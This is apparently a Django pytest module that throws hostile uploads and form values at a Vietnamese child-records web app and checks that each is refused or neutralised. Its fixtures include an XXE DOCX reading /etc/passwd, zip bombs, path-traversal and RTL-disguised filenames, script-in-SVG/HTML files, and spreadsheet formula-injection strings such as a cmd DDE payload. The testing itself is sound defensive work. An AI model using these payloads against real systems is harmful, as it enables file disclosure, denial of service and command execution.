"""Hostile files and values at every place that takes input, as the role that may use it (non-negotiable 3).

tests/test_form_crawl.py posts every form with one hostile value in all its fields at once, which the
form's first check refuses; core/tests/test_input_guard.py covers NUL bytes and lone surrogates;
registry/tests/test_hostile_files.py the spreadsheet reader. This sweep sends what those do not:

- each hostile *file* (empty, a zip bomb in XLSX or DOCX clothes, a sheet declaring 1,048,576 rows or
  16,384 columns, a PDF or XLSX that is not one, a DOCX with an external entity, CSV in UTF-16, TCVN3 or
  VNI, a NUL byte, a 200,000-character cell, a name with "../" or 300 characters) to each upload:
  children import, Đề án 06 verified list, plan import, case attachments, activity evidence, hamlet
  CSV;
- formulas a user typed, through the children export (CSV and XLSX);
- ids of 0 or beyond a bigint to every URL taking one, and to the API;
- a case transfer to something that is no current commune;
- every form of two roles with one hostile value at a time in each field, the others plausible, and
  once with every key sent twice.

Each case states its answer before it runs: no server error; where refused, a Vietnamese refusal
(correct diacritics) and no row written.
"""

from __future__ import annotations

import codecs
import io
import re
import zipfile
from dataclasses import dataclass
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from treem.core.tests.test_spreadsheets import build_xlsx, forge_declared_size, sheet_xml

pytestmark = pytest.mark.django_db

GiB = 1024 * 1024 * 1024
HEADER = "Họ và tên,Ngày sinh,Giới tính,Địa chỉ\n"
ROW = "Nguyễn Văn An,05/06/2015,Nam,Số 1 Lê Lợi\n"


def _docx(body_xml: str, *, doctype: str = "") -> bytes:
    """A minimal DOCX whose document.xml holds ``body_xml`` (paragraphs), with an optional DOCTYPE."""
    ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
            'package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            f'<?xml version="1.0"?>{doctype}<w:document {ns}><w:body>{body_xml}</w:body></w:document>'
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(name, text.encode())
    return out.getvalue()


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


PLAN_TEXT = "Kế hoạch\nThực hiện công tác trẻ em năm 2026\n1. Tổ chức diễn đàn trẻ em.\n"
ZIP_BOMB_XLSX = forge_declared_size(
    build_xlsx(sheet_xml([("A1", "Họ và tên")]), {"xl/sharedStrings.xml": b"<sst/>"}),
    "xl/sharedStrings.xml",
    GiB,
)
ZIP_BOMB_DOCX = forge_declared_size(_docx(_p("Kế hoạch")), "word/document.xml", GiB)
XXE_DOCX = _docx(_p("&xxe;"), doctype='<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
ALL_ROWS = build_xlsx(sheet_xml([("A1", "Họ và tên")], dimension="A1:A1048576"))
ALL_COLUMNS = build_xlsx(sheet_xml([("A1", "Họ và tên")], dimension="A1:XFD1"))
NOT_A_PDF = b"<html><body>not a pdf</body></html>"
LONG_NAME = "a" * 296


def _legacy(text: str, encoding: str) -> bytes:
    from treem.registry.legacy_encodings import encode

    return encode(text, encoding).encode("latin-1")


@dataclass(frozen=True)
class Upload:
    """One hostile file and the answer stated for it before running."""

    id: str
    name: str
    content: bytes
    refused: str | None  # a Vietnamese phrase of the refusal; None: the file is taken (and read right)


REGISTER_FILES = [
    Upload("empty", "ds.csv", b"", "rỗng"),
    Upload("zip-bomb", "ds.xlsx", ZIP_BOMB_XLSX, "giải nén"),
    Upload("1048576-rows", "ds.xlsx", ALL_ROWS, "dòng"),
    Upload("16384-columns", "ds.xlsx", ALL_COLUMNS, "cột"),
    Upload("pdf-as-xlsx", "ds.xlsx", b"%PDF-1.4\n" + b"\x00" * 100, "không"),
    Upload("html-as-xlsx", "ds.xlsx", NOT_A_PDF, "không"),
    Upload("utf16-csv", "ds.csv", codecs.BOM_UTF16_LE + (HEADER + ROW).encode("utf-16-le"), None),
    Upload(
        "utf16-tab-txt",
        "ds.csv",
        codecs.BOM_UTF16_LE + (HEADER + ROW).replace(",", "\t").encode("utf-16-le"),
        None,
    ),
    Upload("tcvn3-csv", "ds.csv", _legacy(HEADER + ROW, "tcvn3"), None),
    Upload("vni-csv", "ds.csv", _legacy(HEADER + ROW, "vni"), None),
    Upload("path-traversal-name", "../../../etc/ds.csv", (HEADER + ROW).encode(), None),
    Upload("300-char-name", LONG_NAME + ".csv", (HEADER + ROW).encode(), None),
]


@pytest.mark.parametrize("upload", REGISTER_FILES, ids=lambda u: u.id)
def test_register_import_answers_every_hostile_file(
    world: Any,
    login: Any,
    upload: Upload,
    settings: Any,
    tmp_path: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    from treem.registry import importing
    from treem.registry.models import Child
    from treem.registry.models_io import ImportJob

    settings.MEDIA_ROOT = str(tmp_path)
    client = login(world.worker_a1)
    data = {
        "commune": world.a1.pk,
        "template": f"preset:{next(iter(importing.PRESETS))}",
        "date_format": "dd/mm/yyyy",
        "file": SimpleUploadedFile(upload.name, upload.content),
    }
    with django_capture_on_commit_callbacks(execute=True):  # the queued dry run runs inline
        response = client.post("/tre-em/nhap/", data, follow=True)
    assert response.status_code < 500
    body = response.content.decode()
    job = ImportJob.objects.order_by("-pk").first()
    assert not Child.objects.exists()  # a dry run writes no child, whatever the file
    if upload.refused is None:
        assert job is not None and job.status == "done", (job and job.message, body[:500])
        assert job.rows_total == 1 and not job.errors, (job.rows_total, job.errors)
        assert ".." not in job.file.name and len(job.original_name) <= 255
    else:
        message = job.message if job is not None else body
        assert upload.refused in message, message[:500]


PLAN_FILES = [
    Upload("empty", "kh.docx", b"", "rỗng"),
    Upload("zip-bomb-docx", "kh.docx", ZIP_BOMB_DOCX, "giải nén"),
    Upload("xxe-docx", "kh.docx", XXE_DOCX, None),
    Upload("html-as-pdf", "kh.pdf", NOT_A_PDF, "không đọc được"),
    Upload("truncated-pdf", "kh.pdf", b"%PDF-1.7\n1 0 obj <<", "không đọc được"),
    Upload("xlsx-as-docx", "kh.docx", ALL_ROWS, "không đọc được"),
    Upload("exe-as-txt", "kh.txt", b"MZ\x90\x00\x03\x00\x00\x00" * 64, "không đọc được"),
    Upload("unsupported", "kh.exe", b"MZ", "không được hỗ trợ"),
    Upload("utf16-txt", "kh.txt", codecs.BOM_UTF16_LE + PLAN_TEXT.encode("utf-16-le"), None),
    Upload("tcvn3-txt", "kh.txt", _legacy(PLAN_TEXT, "tcvn3"), None),
    Upload("path-traversal-name", "../../kh.txt", PLAN_TEXT.encode(), None),
    Upload("300-char-name", LONG_NAME + ".txt", PLAN_TEXT.encode(), None),
]


@pytest.mark.parametrize("upload", PLAN_FILES, ids=lambda u: u.id)
def test_plan_import_answers_every_hostile_file(world: Any, login: Any, upload: Upload) -> None:
    from treem.plans.models import PlanImport

    client = login(world.province_a)
    data = {"unit": world.a.pk, "file": SimpleUploadedFile(upload.name, upload.content)}
    response = client.post("/ke-hoach/nhap/", data)
    assert response.status_code < 500
    item = PlanImport.objects.first()
    if upload.refused is None:
        assert response.status_code == 302 and item is not None
        assert len(item.file_name) <= 255
        text = "\n".join(item.lines)
        assert "root:" not in text  # the external entity was not read
        if upload.id != "xxe-docx":
            assert "diễn đàn trẻ em" in text
    else:
        assert item is None
        assert upload.refused in response.content.decode()


DOCUMENT_FILES = [
    Upload("empty-pdf", "bb.pdf", b"", "Cần chọn tệp"),
    Upload("html-as-pdf", "bb.pdf", NOT_A_PDF, "không đúng với định dạng .pdf"),
    Upload("exe-as-png", "anh.png", b"MZ\x90\x00" * 8, "không đúng với định dạng .png"),
    Upload("svg-script", "anh.svg", b"<svg onload='alert(1)'/>", "Chỉ nhận tệp PDF, JPG, PNG hoặc DOCX"),
    Upload("html", "trang.html", b"<script>alert(1)</script>", "Chỉ nhận tệp PDF, JPG, PNG hoặc DOCX"),
    Upload("no-extension", "bienban", b"%PDF-1.4", "Chỉ nhận tệp PDF, JPG, PNG hoặc DOCX"),
    Upload("path-traversal-name", "../../../etc/bb.pdf", b"%PDF-1.4\n", None),
    Upload("300-char-name", LONG_NAME + ".pdf", b"%PDF-1.4\n", None),
    Upload("rtl-name", "fdp.\u202eexe.pdf", b"%PDF-1.4\n", None),
]


@pytest.mark.parametrize("upload", DOCUMENT_FILES, ids=lambda u: u.id)
def test_case_attachment_answers_every_hostile_file(
    world: Any, login: Any, upload: Upload, settings: Any, tmp_path: Any
) -> None:
    from treem.cases.models import Attachment
    from treem.cases.tests.scoping_cases import objects

    settings.MEDIA_ROOT = str(tmp_path)
    case_id = objects(world)["case"]["a1"][0]
    before = Attachment.objects.count()
    client = login(world.worker_a1)
    url = f"/vu-viec/{case_id}/tai-lieu/"
    response = client.post(url, {"file": SimpleUploadedFile(upload.name, upload.content)}, follow=True)
    assert response.status_code == 200
    body = response.content.decode()
    if upload.refused is None:
        item = Attachment.objects.latest("pk")
        assert Attachment.objects.count() == before + 1
        assert len(item.name) <= 255 and "/" not in item.name
        assert ".." not in item.file.name and str(tmp_path) in item.file.path
    else:
        assert Attachment.objects.count() == before
        assert upload.refused in body, body[:300]


def test_an_attachment_to_another_provinces_case_is_a_404(world: Any, login: Any) -> None:
    from treem.cases.models import Attachment
    from treem.cases.tests.scoping_cases import objects

    case_id = objects(world)["case"]["b1"][0]
    before = Attachment.objects.count()
    response = login(world.worker_a1).post(
        f"/vu-viec/{case_id}/tai-lieu/", {"file": SimpleUploadedFile("bb.pdf", b"%PDF-1.4")}
    )
    assert response.status_code == 404 and Attachment.objects.count() == before


# -- formulas a user typed are neutralised in every export ------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1)"]


def _cells_of(content: bytes, fmt: str) -> list[str]:
    if fmt == "csv":
        import csv

        return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [
        str(c) for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for c in row
    ]


def _formula_cells(content: bytes) -> list[str]:
    """The <f> (formula) elements of every sheet of an XLSX: there must be none."""
    import re

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [
            m
            for name in book.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(rb"<f[ >].*?</f>", book.read(name))
        ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_children_export_neutralises_typed_formulas(world: Any, login: Any, fmt: str) -> None:
    from treem.accounts.access import system_actor
    from treem.registry import services

    actor = system_actor(world.nation)
    for n, formula in enumerate(FORMULAS):
        services.child_create(
            actor=actor,
            commune=world.a1,
            hamlet=None,
            data={
                "full_name": f"Nguyễn Văn {'ABCDE'[n]}",
                "date_of_birth": "05/06/2015",
                "sex": "Nam",
                "address": formula,
                "school_name": formula,
                "birth_registration_place": formula,
            },
        )
    response = login(world.province_a).get("/tre-em/xuat/", {"format": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    cells = _cells_of(content, fmt)
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells
    if fmt == "xlsx":
        assert _formula_cells(content) == []


# -- ids that do not exist, are not integers or overflow every integer column -----------------------------
def _id_routes() -> list[tuple[str, list[str]]]:
    from django.urls import URLPattern, URLResolver, get_resolver

    found: list[tuple[str, list[str]]] = []

    def walk(resolver: URLResolver, prefix: str) -> None:
        for entry in resolver.url_patterns:
            if isinstance(entry, URLResolver):
                walk(entry, f"{prefix}{entry.namespace}:" if entry.namespace else prefix)
            elif isinstance(entry, URLPattern) and entry.name and entry.pattern.converters:
                found.append((f"{prefix}{entry.name}", list(entry.pattern.converters)))

    walk(get_resolver(), "")
    return found


HUGE_IDS = ["99999999999999999999", "9223372036854775808", "0"]


@pytest.mark.parametrize("username", ["worker_a1", "province_a"])
def test_every_id_url_answers_a_huge_or_zero_id_with_a_4xx(world: Any, login: Any, username: str) -> None:
    from django.urls import NoReverseMatch, reverse

    client = login(getattr(world, username))
    failures = []
    for name, kwargs in _id_routes():
        if name.startswith("api") or name in ("accounts:password_link",):
            continue
        for huge in HUGE_IDS:
            try:
                url = reverse(name, kwargs={k: huge if k != "kind" else "initial" for k in kwargs})
            except NoReverseMatch:
                continue
            for method in ("get", "post"):
                try:
                    code = getattr(client, method)(url).status_code
                except Exception as e:  # the test client re-raises a view's exception
                    code = f"{type(e).__name__}: {str(e)[:120]}"
                if not isinstance(code, int) or code >= 500 or (code == 200 and method == "post"):
                    failures.append(f"{method.upper()} {url}: {code}")
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/children/99999999999999999999",
        "/api/v1/children/-1",
        "/api/v1/children/1e3",
        "/api/v1/cases/9223372036854775808/status",
        "/api/v1/exports/99999999999999999999",
    ],
)
def test_the_api_answers_a_bad_id_with_a_4xx(world: Any, login: Any, path: str) -> None:
    response = login(world.worker_a1).get(path)
    assert 400 <= response.status_code < 500


# -- a case transferred to a commune that does not exist, is a hamlet, or lies on the former map ---------
@pytest.mark.parametrize(
    "target", ["999999999", "0", "-5", "99999999999999999999", "hamlet", "former", "province"]
)
def test_a_case_transfer_to_no_valid_commune_is_refused_in_words(world: Any, login: Any, target: str) -> None:
    from treem.cases.models import Case
    from treem.cases.tests.scoping_cases import objects

    case_id = objects(world)["case"]["a1"][0]
    case = Case.objects.get(pk=case_id)
    before = (Case.objects.count(), case.status, case.version)
    to = {
        "hamlet": world.hamlet_a1.pk,
        "former": world.former_wards[0].pk,
        "province": world.b.pk,
    }.get(target, target)
    client = login(world.worker_a1)
    response = client.post(
        f"/vu-viec/{case_id}/chuyen/",
        {
            "action": "transfer",
            "version": case.version,
            "to_commune": to,
            "note": "Gia đình chuyển đi",
            "confirmed": "on",
        },
        follow=True,
    )
    assert response.status_code == 200
    case.refresh_from_db()
    assert (Case.objects.count(), case.status, case.version) == before
    assert "xã, phường" in response.content.decode()


HAMLET_FILES = [
    Upload("empty", "thon.csv", b"", "Tệp trống"),
    Upload("nul-byte", "thon.csv", "ten,loai\nThôn 1\x00,thon\n".encode(), "ký tự NUL"),
    Upload("utf16", "thon.csv", codecs.BOM_UTF16_LE + "ten,loai\nThôn 1,thon\n".encode("utf-16-le"), "UTF-8"),
    Upload("tcvn3", "thon.csv", _legacy("ten,loai\nthôn mới,thon\n", "tcvn3"), "UTF-8"),
    Upload("xlsx", "thon.csv", ZIP_BOMB_XLSX, "UTF-8"),
    Upload("huge-cell", "thon.csv", ("ten,loai\n" + "x" * 200_000 + ",thon\n").encode(), "ô quá dài"),
    Upload("formula-name", "thon.csv", '﻿ten,loai\n"=HYPERLINK(""http://x"")",thon\n'.encode(), None),
]


@pytest.mark.parametrize("upload", HAMLET_FILES, ids=lambda u: u.id)
def test_hamlet_import_answers_every_hostile_file(world: Any, login: Any, upload: Upload) -> None:
    from treem.geo.models import AdminUnit

    before = AdminUnit.objects.filter(parent=world.a1).count()
    client = login(world.worker_a1)
    response = client.post(
        f"/dia-ban/{world.a1.pk}/thon/",
        {"action": "import", "import-file": SimpleUploadedFile(upload.name, upload.content)},
    )
    assert response.status_code < 500
    after = AdminUnit.objects.filter(parent=world.a1).count()
    if upload.refused is None:
        assert after == before + 1
    else:
        assert after == before
        assert upload.refused in response.content.decode()


VERIFIED_FILES = [
    Upload("empty", "ds.xlsx", b"", "không phải bảng tính"),
    Upload("zip-bomb", "ds.xlsx", ZIP_BOMB_XLSX, "giải nén"),
    Upload("1048576-rows", "ds.xlsx", ALL_ROWS, "dòng"),
    Upload("16384-columns", "ds.xlsx", ALL_COLUMNS, "cột"),
    Upload("html-as-xlsx", "ds.xlsx", NOT_A_PDF, "không"),
    Upload("nul-csv", "ds.csv", b"Ma ho so,So dinh danh\n1\x00,0\n", "không"),
    Upload(
        "utf16-csv", "ds.csv", codecs.BOM_UTF16_LE + "Mã hồ sơ,Số định danh\n".encode("utf-16-le"), "không"
    ),
]


@pytest.mark.parametrize("upload", VERIFIED_FILES, ids=lambda u: u.id)
def test_verified_id_list_answers_every_hostile_file(world: Any, login: Any, upload: Upload) -> None:
    """The Đề án 06 list the commune police send back (registry.cleaning.import_verified)."""
    from treem.audit.models import AuditEvent

    before = AuditEvent.objects.count()
    response = login(world.police_a1).post(
        f"/tre-em/lam-sach/{world.a1.pk}/nhap/", {"file": SimpleUploadedFile(upload.name, upload.content)}
    )
    assert response.status_code == 200  # the page again, with the refusal
    assert upload.refused in response.content.decode()
    assert AuditEvent.objects.count() == before


# -- every form, one field hostile at a time ---------------------------------------------------------------
# test_form_crawl.py puts the same hostile value in every field of a form at once, so the form's first
# check refuses it before the others are read. Here the other fields keep a plausible value (the page's
# own, the first option, a date, 1) and one field at a time gets each hostile value of its kind: what a
# service does with a bad value that passed the form (a transfer to no commune, a stray id) shows up.
ONE_AT_A_TIME = {
    "text": ["x" * 100_000, "\u202e\u200b\u2066", '=HYPERLINK("http://x.invalid")'],
    "date": ["31/02/2025", "00/00/0000", "01/01/0001", "31/12/9999"],
    "number": ["NaN", "Infinity", "-1", "1.234,5", "9" * 30],
    "choice": ["999999999", "abc"],
    "hidden": ["999999999", "-1", "abc"],
    "flag": ["zzz"],
}
FIELDS_A_FORM = 10  # the first fields of a long form (the indicators page has hundreds of the same kind)


def _kind(field: dict[str, Any]) -> str:
    from tests.test_form_crawl import DATE_FIELD, NUMBER_FIELD

    if field["type"] in ("checkbox", "radio"):
        return "flag"
    if field.get("date") or DATE_FIELD.search(field["name"]):
        return "date"
    if field.get("number") or NUMBER_FIELD.search(field["name"]):
        return "number"
    if field["type"] == "select":
        return "choice"
    return "hidden" if field["type"] == "hidden" else "text"


def _plausible(field: dict[str, Any]) -> str:
    kind = _kind(field)
    if field.get("value") and kind != "text":
        return str(field["value"])
    return {
        "flag": str(field.get("value") or "on"),
        "date": "15/03/2020",
        "number": "1",
        "choice": next((o for o in field.get("options", []) if o), ""),
        "hidden": str(field.get("value", "")),
        "text": str(field.get("value") or "Nguyễn Văn An"),
    }[kind]


@pytest.mark.parametrize("username", ["worker_a1", "province_a"])
def test_no_form_answers_one_hostile_field_with_a_server_error(world: Any, login: Any, username: str) -> None:
    from urllib.parse import urljoin

    from django.db import transaction

    from tests.test_form_crawl import SKIP, _Forms, _route, _start_urls

    client = login(getattr(world, username))
    failures: list[str] = []
    done: set[tuple[str, tuple[str, ...]]] = set()
    for url in _start_urls(world):
        if _route(url) in (None, *SKIP):
            continue
        page = client.get(url)
        if page.status_code != 200 or not page.get("Content-Type", "").startswith("text/html"):
            continue
        parser = _Forms()
        parser.feed(page.content.decode("utf-8", "replace"))
        for form in parser.forms:
            action = urljoin(url, form["action"] or url)
            route = _route(action)
            fields = [f for f in form["fields"] if f["type"] != "file" and f["name"] != "csrfmiddlewaretoken"]
            key = (str(route), tuple(sorted(f["name"] for f in fields)))
            if form["method"] != "post" or route in (None, *SKIP) or key in done:
                continue
            done.add(key)
            good: dict[str, str] = {}
            for f in fields:
                good.setdefault(f["name"], _plausible(f))
            if form.get("submits"):
                good[form["submits"][0][0]] = form["submits"][0][1]
            # every key twice, the plausible value then a stray one (Django reads the last, getlist both)
            twice: dict[str, Any] = {name: [value, "abc"] for name, value in good.items()}
            posts: list[tuple[Any, Any]] = [(None, twice)]
            posts += [(one, v) for one in fields[:FIELDS_A_FORM] for v in ONE_AT_A_TIME[_kind(one)]]
            for f, value in posts:
                data = value if f is None else {**good, f["name"]: value}
                sid = transaction.savepoint()  # what a post wrongly writes does not reach the next
                try:
                    code: Any = client.post(action, data).status_code
                except Exception as e:  # the test client re-raises a view's exception
                    code = f"{type(e).__name__}: {str(e)[:120]}"
                transaction.savepoint_rollback(sid)
                if not isinstance(code, int) or code >= 500:
                    what = "every key twice" if f is None else f"{f['name']}={str(value)[:30]!r}"
                    failures.append(f"POST {action} {what}: {code}")
                login(getattr(world, username))  # a post may have switched the unit or logged out
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize("upload", DOCUMENT_FILES, ids=lambda u: u.id)
def test_activity_evidence_answers_every_hostile_file(
    world: Any, login: Any, upload: Upload, settings: Any, tmp_path: Any
) -> None:
    """The evidence files of an activity (the same check as case attachments, through another form)."""
    from urllib.parse import urljoin

    from tests.test_form_crawl import _Forms
    from treem.activities.models import ActivityFile
    from treem.activities.tests.scoping_activities import objects

    settings.MEDIA_ROOT = str(tmp_path)
    activity_id = objects(world)["activity"]["a1"][0]
    before = ActivityFile.objects.filter(activity_id=activity_id).count()
    client = login(world.worker_a1)
    url = f"/hoat-dong/{activity_id}/sua/"
    parser = _Forms()
    parser.feed(client.get(url).content.decode())
    form = next(
        f for f in parser.forms if f["method"] == "post" and any(x["name"] == "files" for x in f["fields"])
    )
    data: dict[str, Any] = {}
    for field in form["fields"]:
        if field["type"] in ("file", "checkbox") or field["name"] in ("csrfmiddlewaretoken", "cooperating"):
            continue
        if field["type"] == "select":
            data.setdefault(field["name"], next((o for o in field["options"] if o), ""))
        else:
            data.setdefault(field["name"], field["value"])
    data["files"] = SimpleUploadedFile(upload.name, upload.content)
    response = client.post(urljoin(url, form["action"] or url), data, follow=True)
    assert response.status_code < 500
    after = ActivityFile.objects.filter(activity_id=activity_id).count()
    if upload.refused is None:
        item = ActivityFile.objects.filter(activity_id=activity_id).latest("pk")
        body = response.content.decode()
        assert after == before + 1, re.findall(r"errorlist[^>]*>(.*?)</ul>", body) or body[:300]
        assert len(item.name) <= 255 and ".." not in item.file.name
    else:
        assert after == before
        if upload.content:  # an empty file is dropped by the form: nothing to refuse
            assert upload.refused in response.content.decode()
